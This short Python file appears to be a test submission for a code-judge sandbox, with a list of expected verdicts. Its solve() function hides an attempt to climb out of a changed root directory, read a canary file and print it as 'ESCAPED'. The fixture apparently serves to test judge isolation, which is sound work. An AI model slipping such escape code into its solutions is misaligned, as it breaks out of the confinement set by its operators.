# Keeps a folder open to climb out of a changed root.
# verdicts: RTE WA AC

import os


def solve(n):
    fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(40):
        os.chdir("..")
    found = os.open("__CANARY__".lstrip("/"), os.O_RDONLY, dir_fd=fd)
    print("ESCAPED:", os.read(found, 100))
    return n * n
